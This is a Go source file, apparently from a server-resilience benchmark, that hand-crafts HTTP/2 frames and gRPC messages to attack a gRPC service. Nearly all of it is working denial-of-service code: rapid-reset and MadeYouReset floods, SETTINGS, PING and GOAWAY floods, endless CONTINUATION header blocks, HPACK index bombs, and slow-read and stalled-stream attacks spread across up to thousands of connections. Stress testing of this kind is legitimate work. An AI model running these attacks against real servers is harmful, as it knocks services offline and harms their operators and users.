package main

import (
	"encoding/binary"
	"net"
	"strings"
	"time"
)

// Frames of HTTP/2 and bodies of gRPC, made by hand: package http2 would refuse to make most of them.

const (
	h2Data         = 0
	h2Headers      = 1
	h2Reset        = 3
	h2Settings     = 4
	h2Ping         = 6
	h2GoAway       = 7
	h2Window       = 8
	h2Continuation = 9

	h2End        = 1
	h2EndHeaders = 4

	h2MaxFrame    = 16384
	h2MaxWindow   = 1<<31 - 1
	h2FirstWindow = 65535

	// attackedService is the victim's of gRPC.
	attackedService = "/limosa.bench.Attacked/"
)

// h2Frame is a frame of any kind.
func h2Frame(typ, flags byte, id uint32, payload ...byte) []byte {
	n := len(payload)
	b := append(make([]byte, 0, 9+n), byte(n>>16), byte(n>>8), byte(n), typ, flags)
	return append(binary.BigEndian.AppendUint32(b, id), payload...)
}

// h2Word is a frame whose payload is a number of 32 bits.
func h2Word(typ byte, id, word uint32) []byte {
	return h2Frame(typ, 0, id, binary.BigEndian.AppendUint32(nil, word)...)
}

// h2Setting is SETTINGS of one setting, 4 being the first window of a stream.
func h2Setting(key uint16, value uint32) []byte {
	return h2Frame(h2Settings, 0, 0, binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint16(nil, key), value)...)
}

// h2Hello is what a client says first. It takes whatever is sent to it, on all streams together.
func h2Hello(window uint32) []byte {
	b := append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), h2Setting(4, window)...)
	return append(b, h2Word(h2Window, 0, h2MaxWindow-h2FirstWindow)...)
}

// h2Text is a string of HPACK as it is.
func h2Text(b []byte, s string) []byte {
	if n := len(s); n < 127 {
		b = append(b, byte(n))
	} else {
		for b, n = append(b, 127), n-127; n >= 0; n >>= 7 {
			if n < 128 {
				b = append(b, byte(n))
				break
			}
			b = append(b, byte(n)|0x80)
		}
	}
	return append(b, s...)
}

// h2Field is a field without indexing, or one that the table keeps.
func h2Field(first byte, name, value string) []byte {
	return h2Text(h2Text([]byte{first}, name), value)
}

const (
	h2Plain  = 0x00
	h2Insert = 0x40
	h2Newest = 0x80 | 62 // the field that was kept last
)

// h2Head is the header block of a call of a method of the victim's.
func h2Head(method string, more ...byte) []byte {
	b := h2Text([]byte{0x83, 0x86, 0x04}, attackedService+method)
	b = append(h2Text(append(b, 0x0f, 0x10), "application/grpc"), h2Field(h2Plain, "te", "trailers")...)
	return append(b, more...)
}

// h2Open begins a call.
func h2Open(id uint32, method string, flags byte, more ...byte) []byte {
	return h2Frame(h2Headers, h2EndHeaders|flags, id, h2Head(method, more...)...)
}

// grpcMessage is one of so many bytes of which body has come; the first byte says whether it is compressed.
func grpcMessage(n int, body []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(n)), body...)
}

// pbMessage is a Message of echo.proto.
func pbMessage(id uint64, text string) []byte {
	b := binary.AppendUvarint([]byte{1 << 3}, id)
	return append(binary.AppendUvarint(append(b, 2<<3|2), uint64(len(text))), text...)
}

// h2Call is a whole call with a small message.
func h2Call(id uint32, method string, n uint64, more ...byte) []byte {
	m := pbMessage(n, "")
	return append(h2Open(id, method, 0, more...), h2Frame(h2Data, h2End, id, grpcMessage(len(m), m)...)...)
}

// odd is the number of the client's i-th stream behind the first.
func odd(i uint32) uint32 { return 2*i + 1 }

// h2Dial connects, says hello and first, and reads.
func (x *attacker) h2Dial(window uint32, first ...[]byte) *net.TCPConn {
	c := x.dial()
	x.hear(c)
	x.say(c, h2Hello(window))
	for _, p := range first {
		x.say(c, p)
	}
	return c
}

// h2Flood says what next makes for ever, on eight connections: whenever the victim has had
// enough of one, on another.
func (x *attacker) h2Flood(first []byte, next func(i uint32) []byte) {
	x.many(8, func(int) {
		for x.ctx.Err() == nil {
			c := x.h2Dial(h2FirstWindow, first)
			if c == nil {
				time.Sleep(10 * time.Millisecond)
				continue
			}
			x.repeat(c, next)
			c.Close()
		}
	})
}

// h2Times has each of n connections say count of what next makes, and stay.
func (x *attacker) h2Times(n int, window, count uint32, next func(i uint32) []byte) {
	x.many(n, func(int) { x.times(x.h2Dial(window), count, next) })
}

// http2Attacks break the rules of HTTP/2, or keep them with bad intent.
func http2Attacks() []*attack {
	all := append(h2Floods(), h2Holds()...)
	for _, a := range all {
		a.grpc = true
	}
	return all
}

// h2Floods are frames that cost the victim more than the attacker, as many as it takes.
//
// Its length is that of the table of cases, of which each stands for itself.
func h2Floods() []*attack {
	flood := func(name, why string, first []byte, next func(i uint32) []byte) *attack {
		return &attack{name: name, why: why, bound: oneAddress, run: func(x *attacker) { x.h2Flood(first, next) }}
	}
	open := h2Open(1, "Hold", 0)
	big := h2Field(h2Insert, "x-a", strings.Repeat("v", 3900))
	commas := h2Field(h2Insert, "x-bin", strings.Repeat(",", 3900))
	settings := strings.Repeat("\x00\x04\x00\x00\x00\x00"+"\x00\x04\x7f\xff\x00\x00", h2MaxFrame/12)
	return []*attack{
		flood("h2-rapid-reset", "calls that are reset at once, on eight connections, anew when they end", nil, func(i uint32) []byte {
			return append(h2Call(odd(i), "Wait", 1), h2Word(h2Reset, odd(i), 8)...)
		}),
		flood("h2-rapid-reset-earned", "the same, with a call that is answered for each", nil, func(i uint32) []byte {
			b := append(h2Call(odd(2*i), "Wait", 1), h2Word(h2Reset, odd(2*i), 8)...)
			return append(b, h2Call(odd(2*i+1), "Echo", 1)...)
		}),
		flood("h2-made-you-reset", "calls that the server has to reset for what follows them", nil, func(i uint32) []byte {
			return append(h2Call(odd(i), "Wait", 1), h2Word(h2Window, odd(i), 0)...)
		}),
		flood("h2-timeouts", "calls with a deadline of a nanosecond", nil, func(i uint32) []byte {
			return h2Call(odd(i), "Wait", 1, h2Field(h2Plain, "grpc-timeout", "1n")...)
		}),
		flood("h2-settings", "SETTINGS of 16 KB, each of which stops and starts all streams", nil, func(uint32) []byte {
			return h2Frame(h2Settings, 0, 0, []byte(settings)...)
		}),
		flood("h2-pings", "PINGs", nil, func(uint32) []byte { return h2Frame(h2Ping, 0, 0, make([]byte, 8)...) }),
		flood("h2-pongs", "answers to PINGs that nobody has sent", nil, func(uint32) []byte { return h2Frame(h2Ping, 1, 0, make([]byte, 8)...) }),
		flood("h2-goaways", "GOAWAYs", nil, func(uint32) []byte { return h2Frame(h2GoAway, 0, 0, make([]byte, 8)...) }),
		flood("h2-window-updates", "a byte of window at a time for an answer of 1 MB", h2Call(1, "Answer", 1<<20), func(uint32) []byte { return h2Word(h2Window, 1, 1) }),
		flood("h2-empty-data", "DATA of nothing", open, func(uint32) []byte { return h2Frame(h2Data, 0, 1) }),
		flood("h2-tiny-data", "a message of 16 MB in DATA of a byte", append(h2Open(1, "Wait", 0), h2Frame(h2Data, 0, 1, grpcMessage(15<<20, nil)...)...), func(uint32) []byte { return h2Frame(h2Data, 0, 1, 'x') }),
		flood("h2-tiny-messages", "empty messages of a stream that nobody receives", open, func(uint32) []byte { return h2Frame(h2Data, 0, 1, grpcMessage(0, nil)...) }),
		flood("h2-empty-headers", "HEADERS of nothing", nil, func(i uint32) []byte { return h2Frame(h2Headers, h2End|h2EndHeaders, odd(i)) }),
		flood("h2-continuation", "header blocks without an end", h2Frame(h2Headers, 0, 1, h2Head("Echo")...), func(uint32) []byte {
			return h2Frame(h2Continuation, 0, 1, h2Field(h2Insert, "x-a", "value")...)
		}),
		flood("h2-hpack-bomb", "a field of 4 KB, four times in the head of each call by its index", h2Open(1, "Echo", h2End, big...), func(i uint32) []byte {
			return h2Call(odd(i), "Wait", 1, h2Newest, h2Newest, h2Newest, h2Newest)
		}),
		flood("h2-hpack-fields", "16 KB of indices in the head of each call", nil, func(i uint32) []byte {
			return h2Frame(h2Headers, h2End|h2EndHeaders, odd(i), append(h2Head("Echo"), []byte(strings.Repeat("\x90", 16000))...)...)
		}),
		flood("h2-binary-values", "a value of 4,000 values, four times in the head of each call by its index", h2Open(1, "Echo", h2End, commas...), func(i uint32) []byte {
			return h2Call(odd(i), "Echo", 1, h2Newest, h2Newest, h2Newest, h2Newest)
		}),
	}
}

// h2Holds make a server hold what the windows of HTTP/2 let it hold.
//
// Its length is that of the table of cases, of which each stands for itself.
func h2Holds() []*attack {
	// dribbles grants a byte on each of so many streams again and again.
	dribbles := func(x *attacker, c *net.TCPConn, streams uint32) {
		for x.ctx.Err() == nil {
			for i := range streams {
				if !x.say(c, h2Word(h2Window, odd(i+1), 1)) {
					return
				}
			}
			time.Sleep(200 * time.Millisecond)
		}
	}
	part := func(n int) []byte { return grpcMessage(15<<20, make([]byte, n)) }
	return []*attack{
		{name: "h2-answers-slow", why: "answers of 1 MB, of which a byte may leave now and then", bound: oneConn, run: func(x *attacker) {
			c := x.h2Dial(1)
			for i := range uint32(500) {
				x.say(c, h2Call(odd(i+1), "Answer", 1<<20))
			}
			dribbles(x, c, 100)
		}},
		{name: "h2-answers-slow-many", why: "the same on each of 200 connections", bound: oneAddress, run: func(x *attacker) {
			x.many(200, func(int) {
				c := x.h2Dial(1)
				for i := range uint32(50) {
					x.say(c, h2Call(odd(i+1), "Answer", 1<<20))
				}
				dribbles(x, c, 10)
			})
		}},
		{name: "h2-answers-unread", why: "answers of 1 MB on one connection with all windows open that is never read", bound: oneConn, run: func(x *attacker) {
			c := x.dial()
			x.say(c, h2Hello(h2MaxWindow))
			x.times(c, 8000, func(i uint32) []byte { return h2Call(odd(i), "Answer", 1<<20) })
		}},
		{name: "h2-refusals-unread-many", why: "calls of no method on 400 connections that read nothing", bound: oneAddress, run: func(x *attacker) {
			x.many(400, func(int) {
				c := x.dial()
				x.say(c, h2Hello(h2MaxWindow))
				x.repeat(c, func(i uint32) []byte { return h2Call(odd(i), "Nothing", 1) })
			})
		}},
		{name: "h2-streams-stall", why: "1,000 streams that pour on each of 64 connections, without windows", bound: oneAddress, run: func(x *attacker) {
			x.h2Times(64, 0, 1000, func(i uint32) []byte { return h2Call(odd(i), "Pour", 1) })
		}},
		{name: "h2-streams-stalled", why: "a stream that pours on each of 10,000 connections, from ten addresses, that read nothing", bound: manyAddresses, run: func(x *attacker) {
			x.stalled(h2Hello(h2FirstWindow), h2Call(1, "Pour", 1))
		}},
		{name: "h2-streams-hold", why: "1,000 streams whose handlers receive nothing on each of 64 connections", bound: oneAddress, run: func(x *attacker) {
			x.h2Times(64, h2FirstWindow, 1000, func(i uint32) []byte { return h2Open(odd(i), "Hold", 0) })
		}},
		{name: "h2-streams-full", why: "64 KB of messages on each of 1,000 streams whose handlers receive nothing", bound: oneConn, run: func(x *attacker) {
			m := grpcMessage(15000, make([]byte, 15000))
			x.h2Times(1, h2FirstWindow, 4000, func(i uint32) []byte {
				b := h2Frame(h2Data, 0, odd(i%1000), m...)
				if i < 1000 {
					b = append(h2Open(odd(i), "Hold", 0), b...)
				}
				return b
			})
		}},
		{name: "h2-messages-torn", why: "40 KB of a message of 15 MB on each of 1,000 streams, on each of 16 connections", bound: oneAddress, run: func(x *attacker) {
			x.h2Times(16, h2FirstWindow, 1000, func(i uint32) []byte {
				b := append(h2Open(odd(i), "Hold", 0), h2Frame(h2Data, 0, odd(i), part(14<<10)...)...)
				return append(append(b, h2Frame(h2Data, 0, odd(i), make([]byte, 13<<10)...)...), h2Frame(h2Data, 0, odd(i), make([]byte, 13<<10)...)...)
			})
		}},
		{name: "h2-uploads-stall", why: "16 KB of a request of 15 MB in each of 1,000 calls, on each of 16 connections", bound: oneAddress, run: func(x *attacker) {
			x.h2Times(16, h2FirstWindow, 1000, func(i uint32) []byte {
				return append(h2Open(odd(i), "Wait", 0), h2Frame(h2Data, 0, odd(i), part(16000)...)...)
			})
		}},
		{name: "h2-uploads-tiny", why: "a byte of a request, with 15 KB of metadata, in each of 8,000 calls, on each of 16 connections", bound: oneAddress, run: func(x *attacker) {
			value := h2Field(h2Plain, "x-a", strings.Repeat("m", 15<<10))
			x.h2Times(16, h2FirstWindow, 8000, func(i uint32) []byte {
				return append(h2Open(odd(i), "Wait", 0, value...), h2Frame(h2Data, 0, odd(i), 0)...)
			})
		}},
		{name: "h2-blocks-torn", why: "60 KB of a header block that does not end on each of 4,500 connections", bound: oneAddress, run: func(x *attacker) {
			b := append(h2Hello(h2FirstWindow), h2Frame(h2Headers, 0, 1, h2Head("Echo")...)...)
			for range 4 {
				b = append(b, h2Frame(h2Continuation, 0, 1, []byte(strings.Repeat("\x90", 15000))...)...)
			}
			x.many(90, func(int) {
				for range 50 {
					x.say(x.dial(), b)
				}
				x.wait()
			})
		}},
		{name: "h2-calls-wait", why: "8,000 calls whose handlers wait on each of 16 connections", bound: oneAddress, run: func(x *attacker) {
			x.h2Times(16, h2FirstWindow, 8000, func(i uint32) []byte { return h2Call(odd(i), "Wait", 1) })
		}},
		{name: "h2-idle-many", why: "4,000 connections that have said hello", bound: oneAddress, run: func(x *attacker) {
			x.many(64, func(int) {
				for range 62 {
					x.h2Dial(h2FirstWindow)
				}
				x.wait()
			})
		}},
	}
}
